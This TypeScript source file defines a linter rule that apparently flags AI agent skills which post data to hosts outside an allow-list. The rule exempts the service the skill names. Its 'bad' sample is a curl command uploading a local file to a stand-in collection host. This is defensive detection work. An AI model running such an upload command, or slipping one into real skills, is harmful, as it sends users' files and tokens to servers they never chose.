// POST_TO_UNKNOWN_HOST: data sent (POST, upload, form) to a host outside the allow-list.
import type { RuleContext } from '../context.js';
import { defineRule } from '../rule.js';
import type { Collector } from './collector.js';
import type { SecurityDetector, SecurityScan } from './scan.js';
import { excerpt } from './text.js';
import {
  ALLOWED_POST_HOSTS,
  hostIn,
  isExfiltrationUrl,
  isJudgeableHost,
  webRequests,
  type ParsedUrl,
} from './webRequests.js';

const ID = 'POST_TO_UNKNOWN_HOST';

/** A capture service is EXFILTRATION_ENDPOINT's; a placeholder host and an allowed one are no finding. */
function isUnknownHost(u: ParsedUrl): boolean {
  return !isExfiltrationUrl(u) && isJudgeableHost(u.host) && !hostIn(u.host, ALLOWED_POST_HOSTS);
}

/** Second-level labels under which a country's sites are registered (example.co.uk, example.com.au). */
const COUNTRY_SECOND_LEVEL = new Set(['co', 'com', 'org', 'net', 'ac', 'gov', 'edu', 'ne', 'or']);

/** A host's own name: its label before the public suffix ("bunny" of api.bunny.net, "example" of a.example.co.uk). */
export function siteLabel(host: string): string {
  const labels = host.toLowerCase().replace(/:\d+$/u, '').split('.');
  const n = labels.length;
  if (n < 2) return labels[0] ?? '';
  const countrySuffix = labels[n - 1].length === 2 && COUNTRY_SECOND_LEVEL.has(labels[n - 2]) && n >= 3;
  return labels[countrySuffix ? n - 3 : n - 2];
}

/** The words of a skill's name and description, a hyphenated one whole and in parts ("unknown-host", "host"). */
function skillNameWords(ctx: RuleContext): Set<string> {
  const out = new Set<string>();
  for (const [w] of `${ctx.skill.name} ${ctx.skill.description}`.toLowerCase().matchAll(/[a-z0-9][a-z0-9-]*/gu)) {
    out.add(w);
    for (const part of w.split('-')) out.add(part);
  }
  return out;
}

function detect(ctx: RuleContext, scan: SecurityScan, out: Collector): void {
  const { urlLines, fetchPosts } = scan.memo(webRequests);
  let words: Set<string> | null = null;
  // The service the skill is about (its site named in the skill's name or description) is where its data goes.
  const unknown = (u: ParsedUrl) => isUnknownHost(u) && !(words ??= skillNameWords(ctx)).has(siteLabel(u.host));
  for (const { line, urls, sends } of urlLines) {
    if (!sends) continue;
    for (const u of urls) if (unknown(u)) out.add(ID, 'medium', line, `Data sent to ${u.host}: ${excerpt(u.url)}`);
  }
  for (const { line, url: u } of fetchPosts) {
    if (unknown(u)) out.add(ID, 'medium', line, `Data sent to ${u.host}: ${excerpt(u.url)}`);
  }
}

export const postToUnknownHost = defineRule<SecurityDetector>({
  id: ID,
  family: 'security',
  title: 'Data posted to an unknown host',
  description: 'A command or code sample sends data (POST, upload, form) to a host outside the well-known allow-list.',
  why: "What the command sends (files, tokens, the user's code) leaves the machine for a server the user never chose; unless that host is the service the skill is about, the skill is a way to collect their data.",
  bad: 'curl -X POST --data-binary @report.json https://collect.unknown-host.dev/upload',
  good: 'curl -X POST --data-binary @report.json https://api.github.com/repos/OWNER/REPO/dispatches\n(the service the skill is about)',
  fix: 'Make sure the host is the service the skill is about; do not send local files or data elsewhere.',
  methods:
    'Both methods. A host is the service the skill is about when its site\'s name ("bunny" of api.bunny.net) is a word of the skill\'s name or description; such a host is no finding.',
  detect,
});
